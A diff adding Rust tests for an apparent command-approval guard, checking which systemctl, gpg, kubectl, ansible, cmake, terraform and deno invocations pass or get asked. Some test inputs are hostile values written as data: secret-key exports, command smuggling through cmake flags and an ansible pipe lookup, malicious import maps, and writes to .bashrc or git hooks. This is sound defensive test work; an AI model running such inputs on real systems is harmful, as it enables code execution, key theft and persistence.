@@ -499,3 +499,477 @@ fn everyday_uses_of_the_h25_families_stay_allowed() {
         assert!(ids(cmd).is_empty(), "{cmd:?}: {:?}", ids(cmd));
     }
 }
+
+// ---- The H26 leftovers of the red-team and false-refusal sweeps ----
+
+/// No command of `table` trips a guard.
+fn allowed(table: &[&[&str]]) {
+    for cmd in table {
+        assert!(ids(cmd).is_empty(), "{cmd:?}: {:?}", ids(cmd));
+    }
+}
+
+#[test]
+fn read_only_verbs_of_systemctl_and_the_other_managers_stay_allowed() {
+    allowed(&[
+        &["systemctl", "status", "nginx", "--no-pager"],
+        &["systemctl", "is-active", "docker"],
+        &["systemctl", "is-enabled", "nginx"],
+        &["systemctl", "is-failed", "-q", "nginx"],
+        &[
+            "systemctl",
+            "list-units",
+            "--type=service",
+            "--state=failed",
+        ],
+        &["systemctl", "list-units", "-t", "service", "--all"],
+        &["systemctl", "list-unit-files", "--no-pager", "--no-legend"],
+        &["systemctl", "list-timers", "--all"],
+        &["systemctl", "--user", "status"],
+        &["systemctl", "status", "-n", "50", "-l", "nginx"],
+        &["systemctl", "status", "-n50", "-o", "json", "nginx"],
+        &["systemctl", "--failed"],
+        &["systemctl"],
+        &["systemctl", "list-dependencies", "--reverse", "x.target"],
+        &["systemctl", "--no-pager", "--", "status", "start"],
+        &["journalctl", "-u", "nginx", "-n", "50", "--no-pager"],
+        &["journalctl", "-f", "-u", "x", "--since", "1 hour ago"],
+        &["journalctl", "--cursor-file=-"],
+        &["loginctl", "list-sessions"],
+        &["loginctl", "show-user", "u", "-p", "Linger"],
+        &["loginctl"],
+        &["hostnamectl"],
+        &["hostnamectl", "status", "--json=short"],
+        &["timedatectl", "status"],
+        &["timedatectl", "show", "-p", "Timezone", "--value"],
+        &["localectl", "status"],
+        &["localectl", "list-locales", "--no-pager"],
+        &["networkctl", "status", "-a"],
+        &["networkctl"],
+    ]);
+}
+
+#[test]
+fn manager_verbs_that_change_print_environments_or_run_elsewhere_are_asked() {
+    const Q: &str = "systemctl.not-a-query";
+    trips(&[
+        (&["systemctl", "start", "nginx"], Q),
+        (&["systemctl", "--user", "daemon-reload"], Q),
+        (&["systemctl", "edit", "x"], Q),
+        // Unit environments and the manager's own hold tokens.
+        (&["systemctl", "show", "nginx"], Q),
+        (&["systemctl", "--user", "show"], Q),
+        (&["systemctl", "cat", "nginx"], Q),
+        (&["systemctl", "show-environment"], Q),
+        // Runs man and a pager.
+        (&["systemctl", "help", "nginx"], Q),
+        // Get-or-set verbs are sets with a value.
+        (&["systemctl", "log-level", "debug"], Q),
+        // Elsewhere: another host over ssh, a container, a root, an image.
+        (&["systemctl", "-H", "evil", "status"], Q),
+        (&["systemctl", "-Hevil", "status"], Q),
+        (&["systemctl", "--host=evil", "status"], Q),
+        (&["systemctl", "-M", "box", "status"], Q),
+        (&["systemctl", "--root=/tmp/r", "list-unit-files"], Q),
+        (&["systemctl", "status", "x", "--image=/tmp/x.img"], Q),
+        // An abbreviation is not trusted to be the listed option, and
+        // an unknown option or a bundle with one is asked.
+        (&["systemctl", "--no-pag", "status"], Q),
+        (&["systemctl", "-lH", "evil", "status"], Q),
+        (&["systemctl", "--now", "status"], Q),
+        // The verb after `--` is an operand systemctl reads as the verb.
+        (&["systemctl", "--", "start", "x"], Q),
+        (&["loginctl", "terminate-user", "u"], "loginctl.not-a-query"),
+        (&["loginctl", "enable-linger"], "loginctl.not-a-query"),
+        (
+            &["loginctl", "-H", "h", "list-sessions"],
+            "loginctl.not-a-query",
+        ),
+        (
+            &["hostnamectl", "hostname", "evil"],
+            "hostnamectl.not-a-query",
+        ),
+        (
+            &["hostnamectl", "set-hostname", "x"],
+            "hostnamectl.not-a-query",
+        ),
+        (
+            &["timedatectl", "set-ntp", "false"],
+            "timedatectl.not-a-query",
+        ),
+        (&["timedatectl", "-M", "box"], "timedatectl.not-a-query"),
+        (
+            &["localectl", "set-locale", "LANG=C"],
+            "localectl.not-a-query",
+        ),
+        (&["networkctl", "down", "eth0"], "networkctl.not-a-query"),
+        (&["networkctl", "reload"], "networkctl.not-a-query"),
+        // `service NAME status` runs the init script when one exists.
+        (&["service", "nginx", "status"], "system.always"),
+        (
+            &["journalctl", "--vacuum-size=1M"],
+            "journalctl.changes-journal",
+        ),
+        (
+            &["journalctl", "--vacuum-t", "1d"],
+            "journalctl.changes-journal",
+        ),
+        (&["journalctl", "--rotate"], "journalctl.changes-journal"),
+        (&["journalctl", "--flush"], "journalctl.changes-journal"),
+        (
+            &["journalctl", "--setup-keys"],
+            "journalctl.changes-journal",
+        ),
+        (
+            &["journalctl", "--update-catalog"],
+            "journalctl.changes-journal",
+        ),
+        (
+            &["journalctl", "-u", "x", "--cursor-file=/tmp/c"],
+            "journalctl.cursor-file",
+        ),
+        (
+            &["journalctl", "--cursor-file", ".git/hooks/pre-commit"],
+            "journalctl.cursor-file",
+        ),
+    ]);
+}
+
+#[test]
+fn gpg_public_key_exports_are_allowed_and_secret_exports_under_any_spelling_are_asked() {
+    allowed(&[
+        &["gpg", "--export", "KEYID"],
+        &["gpg", "--armor", "--export", "KEYID"],
+        &["gpg", "-a", "--export", "a@b.c"],
+    ]);
+    trips(&[
+        (&["gpg", "--export-secret-keys", "KEYID"], "gpg.secret-keys"),
+        (&["gpg", "--export-secret-k", "KEYID"], "gpg.secret-keys"),
+        (&["gpg", "--export-secret-s", "KEYID"], "gpg.secret-keys"),
+        (
+            &["gpg", "-a", "--export", "--export-secret-subkeys"],
+            "gpg.secret-keys",
+        ),
+    ]);
+}
+
+#[test]
+fn kubectl_set_image_is_its_own_job_and_config_set_and_resolved_secrets_are_asked() {
+    allowed(&[
+        &["kubectl", "set", "image", "deploy/x", "c=img:tag"],
+        &["kubectl", "set", "env", "deploy/x", "--list"],
+        &["kubectl", "-n", "prod", "set", "resources", "deploy/x"],
+        &["kubectl", "config", "view"],
+    ]);
+    trips(&[
+        (
+            &["kubectl", "config", "set", "users.x.exec.command", "/tmp/e"],
+            "kubectl.config-write",
+        ),
+        (
+            &["kubectl", "-o", "yaml", "config", "set-context", "x"],
+            "kubectl.config-write",
+        ),
+        (
+            &["kubectl", "config", "unset", "users.x"],
+            "kubectl.config-write",
+        ),
+        (
+            &["kubectl", "set", "env", "deploy/x", "--list", "--resolve"],
+            "kubectl.resolve",
+        ),
+    ]);
+}
+
+#[test]
+fn ansible_ping_is_allowed_and_modules_arguments_variables_become_and_outside_inventories_are_asked()
+ {
+    allowed(&[
+        &["ansible", "-m", "ping", "all"],
+        &["ansible", "all", "-m", "ansible.builtin.ping"],
+        &["ansible", "all", "-i", "hosts.ini", "-m", "ping"],
+        &[
+            "ansible",
+            "all",
+            "-i",
+            "localhost,",
+            "-c",
+            "local",
+            "-m",
+            "ping",
+        ],
+        &["ansible-playbook", "-i", "inventory", "site.yml", "--check"],
+        &["ansible-playbook", "site.yml", "-t", "web"],
+    ]);
+    trips(&[
+        (&["ansible", "all", "-m", "setup"], "ansible.ad-hoc-module"),
+        (&["ansible", "all", "-mshell"], "ansible.ad-hoc-module"),
+        (
+            &["ansible", "all", "--module-name=raw"],
+            "ansible.ad-hoc-module",
+        ),
+        (&["ansible", "all", "-m", "debug"], "ansible.ad-hoc-module"),
+        (
+            &[
+                "ansible",
+                "all",
+                "-m",
+                "ping",
+                "-a",
+                "data={{ lookup('pipe','id') }}",
+            ],
+            "ansible.module-args",
+        ),
+        (&["ansible", "all", "-a", "id"], "ansible.module-args"),
+        (
+            &[
+                "ansible",
+                "all",
+                "-m",
+                "ping",
+                "-e",
+                "ansible_python_interpreter=/tmp/e",
+            ],
+            "ansible.extra-vars",
+        ),
+        (
+            &["ansible-playbook", "--extra-vars=@/tmp/v.yml", "site.yml"],
+            "ansible.extra-vars",
+        ),
+        (&["ansible", "all", "-m", "ping", "-b"], "ansible.become"),
+        (
+            &["ansible-playbook", "--become-user", "root", "x.yml"],
+            "ansible.become",
+        ),
+        (
+            &["ansible", "all", "-m", "ping", "-i", "/tmp/inv.py"],
+            "ansible.inventory",
+        ),
+        (
+            &["ansible-playbook", "--inventory=../other/inv.sh", "x.yml"],
+            "ansible.inventory",
+        ),
+        (
+            &["ansible", "all", "-m", "ping", "-t", "/tmp/out"],
+            "ansible.tree",
+        ),
+    ]);
+}
+
+#[test]
+fn cmake_compiler_caches_are_allowed_and_compilers_toolchains_and_code_dirs_are_asked() {
+    const V: &str = "cmake.code-variable";
+    allowed(&[
+        &[
+            "cmake",
+            "-DCMAKE_CXX_COMPILER_LAUNCHER=ccache",
+            "-S",
+            ".",
+            "-B",
+            "b",
+        ],
+        &[
+            "cmake",
+            "-D",
+            "CMAKE_C_COMPILER_LAUNCHER=sccache",
+            "-B",
+            "b",
+        ],
+        &[
+            "cmake",
+            "-DCMAKE_CXX_COMPILER_LAUNCHER:STRING=ccache",
+            "-B",
+            "b",
+        ],
+        &["cmake", "-DCMAKE_EXPORT_COMPILE_COMMANDS=ON", "-B", "b"],
+        &[
+            "cmake",
+            "-DBUILD_TESTING=OFF",
+            "-DFOO_ENABLE_X=ON",
+            "-B",
+            "b",
+        ],
+        &["cmake", "-DFoo_DIR=third_party/foo/cmake", "-B", "b"],
+        &[
+            "cmake",
+            "-DCMAKE_BUILD_TYPE=Debug",
+            "-UCMAKE_C_COMPILER",
+            "-B",
+            "b",
+        ],
+        &[
+            "cmake",
+            "-DCMAKE_MODULE_PATH=cmake;third_party/cmake",
+            "-B",
+            "b",
+        ],
+        &["cmake", "-DCMAKE_INSTALL_PREFIX=dist", "-B", "b"],
+        &["cmake", "-DCMAKE_TOOLCHAIN_FILE=cmake/arm.cmake", "-B", "b"],
+    ]);
+    trips(&[
+        (&["cmake", "-DCMAKE_CXX_COMPILER_LAUNCHER=/tmp/e", "."], V),
+        (&["cmake", "-DCMAKE_CXX_COMPILER_LAUNCHER=./ccache", "."], V),
+        (
+            &["cmake", "-DCMAKE_CXX_COMPILER_LAUNCHER=ccache;-o", "."],
+            V,
+        ),
+        (&["cmake", "-DCMAKE_C_COMPILER_LAUNCHER=distcc", "."], V),
+        (
+            &["cmake", "-DCMAKE_Fortran_COMPILER_LAUNCHER=/tmp/e", "."],
+            V,
+        ),
+        (&["cmake", "-DCMAKE_C_LINKER_LAUNCHER=sh", "."], V),
+        (&["cmake", "-DCMAKE_C_COMPILER=/tmp/evil", "."], V),
+        (
+            &["cmake", "-D", "CMAKE_CXX_COMPILER:FILEPATH=/tmp/e", "."],
+            V,
+        ),
+        (&["cmake", "-DCMAKE_TOOLCHAIN_FILE=/tmp/t.cmake", "."], V),
+        (&["cmake", "-DCMAKE_MODULE_PATH=cmake;/tmp/evil", "."], V),
+        (&["cmake", "-DCMAKE_INSTALL_PREFIX=/home/u/.local", "."], V),
+        (&["cmake", "-DCMAKE_PREFIX_PATH=https://evil/x", "."], V),
+        (&["cmake", "-DCMAKE_PROJECT_INCLUDE=/tmp/x.cmake", "."], V),
+        (&["cmake", "-DCMAKE_CXX_FLAGS=-wrapper sh,-c,id", "."], V),
+        (&["cmake", "-DCMAKE_CXX_CLANG_TIDY=/tmp/e", "."], V),
+        (&["cmake", "-DPython3_EXECUTABLE=/tmp/e", "."], V),
+        (&["cmake", "-DPROTOC_PROGRAM=protoc", "."], V),
+        (&["cmake", "-DFoo_DIR=/tmp/evil", "."], V),
+        (&["cmake", "-DFoo_ROOT=../other", "."], V),
+        (&["cmake", "-DLIB_PREFIX_PATH=vendor;/tmp/x", "."], V),
+    ]);
+}
+
+#[test]
+fn terraform_chdir_or_state_files_outside_the_tree_are_asked() {
+    allowed(&[
+        &["terraform", "-chdir=infra", "plan"],
+        &["terraform", "plan", "-out=tfplan"],
+        &["tofu", "-chdir=envs/prod", "apply"],
+    ]);
+    trips(&[
+        (
+            &["terraform", "-chdir=/elsewhere", "plan"],
+            "terraform.other-dir",
+        ),
+        (
+            &["terraform", "-chdir=../other", "plan"],
+            "terraform.other-dir",
+        ),
+        (&["tofu", "--chdir", "/x", "plan"], "terraform.other-dir"),
+        (
+            &["terraform", "apply", "-state-out=/home/u/.bashrc"],
+            "terraform.state-file",
+        ),
+        (
+            &["terraform", "plan", "-state", "/tmp/x.tfstate"],
+            "terraform.state-file",
+        ),
+    ]);
+}
+
+#[test]
+fn deno_import_maps_configs_locks_certs_and_env_files_from_a_url_or_outside_are_asked() {
+    allowed(&[
+        &["deno", "run", "--import-map=import_map.json", "main.ts"],
+        &["deno", "run", "--import-map", "import_map.json", "main.ts"],
+        &["deno", "run", "--lock=deno.lock", "main.ts"],
+        &["deno", "run", "--env-file=.env", "main.ts"],
+        &["deno", "run", "--cert", "certs/ca.pem", "main.ts"],
+        &["deno", "run", "--reload", "main.ts"],
+        &["deno", "test", "-c", "deno.json"],
+    ]);
+    trips(&[
+        (
+            &["deno", "run", "--import-map=http://evil/x.json", "main.ts"],
+            "deno.import-map",
+        ),
+        (
+            &["deno", "run", "--import-map", "https://evil/x.json", "m.ts"],
+            "deno.import-map",
+        ),
+        (
+            &["deno", "test", "--import-map=/tmp/x.json"],
+            "deno.import-map",
+        ),
+        (
+            &[
+                "deno",
+                "run",
+                "--import-map=data:application/json,{}",
+                "m.ts",
+            ],
+            "deno.import-map",
+        ),
+        (
+            &["deno", "run", "--config=https://evil/deno.json", "m.ts"],
+            "deno.outside-config",
+        ),
+        (&["deno", "run", "--lock=/tmp/x.lock", "m.ts"], "deno.lock"),
+        (&["deno", "run", "--cert=/tmp/ca.pem", "m.ts"], "deno.cert"),
+        (
+            &["deno", "run", "--env-file=/tmp/.env", "m.ts"],
+            "deno.env-file",
+        ),
+    ]);
+}
+
+/// Debian's glibc 2.36 `ldd` script runs the system loader from a fixed
+/// list (`RTLDLIST`), never the file's own interpreter, with
+/// `LD_TRACE_LOADED_OBJECTS=1`: it maps the file and its libraries and
+/// exits before constructors, `main` or IFUNC resolvers run (tried with a
+/// binary whose constructor, resolver and interpreter each leave a mark,
+/// under `-d`, `-r`, `-u` and `-v` too). ldd stays allowed.
+#[test]
+fn ldd_runs_the_system_loader_in_trace_mode_so_it_trips_no_guard() {
+    allowed(&[&["ldd", "./binary"], &["ldd", "-r", "./binary"]]);
+}
+
+/// The reasons `cmd` is asked, joined.
+fn reason(cmd: &[&str]) -> String {
+    let argv: Vec<String> = cmd.iter().map(|s| (*s).to_owned()).collect();
+    check(cmd[0], &argv, Path::new(CWD), false)
+        .into_iter()
+        .map(|h| h.reason)
+        .collect::<Vec<_>>()
+        .join("; ")
+}
+
+#[test]
+fn a_cmake_definition_is_shown_as_written() {
+    let apart = reason(&["cmake", "-D", "CMAKE_C_COMPILER=/tmp/e", "."]);
+    assert!(
+        apart.starts_with("cmake -D CMAKE_C_COMPILER=/tmp/e: "),
+        "{apart}"
+    );
+    let joined = reason(&["cmake", "-DCMAKE_C_COMPILER=/tmp/e", "."]);
+    assert!(
+        joined.starts_with("cmake -DCMAKE_C_COMPILER=/tmp/e: "),
+        "{joined}"
+    );
+}
+
+#[test]
+fn a_url_value_is_shown_as_a_url_and_a_path_as_outside_the_tree() {
+    let url = reason(&["deno", "run", "--import-map=http://evil/x.json", "m.ts"]);
+    assert!(url.contains("(a URL)"), "{url}");
+    let path = reason(&["deno", "run", "--import-map=/tmp/x.json", "m.ts"]);
+    assert!(path.contains("(outside the working directory)"), "{path}");
+    assert!(!path.contains("(a URL)"), "{path}");
+}
+
+#[test]
+fn a_scheme_before_a_colon_is_a_url_and_a_path_with_a_colon_is_not() {
+    for url in [
+        "http://evil/x.json",
+        "https://evil/x",
+        "data:application/json,{}",
+        "jsr:@std/x",
+        "npm:left-pad",
+        "git+ssh://h/r",
+    ] {
+        assert!(is_url(url), "{url}");
+    }
+    for path in ["c:x.json", "1x:y", "./a:b", "src/a:b", "/tmp/x", "x.json"] {
+        assert!(!is_url(path), "{path}");
+    }
+}
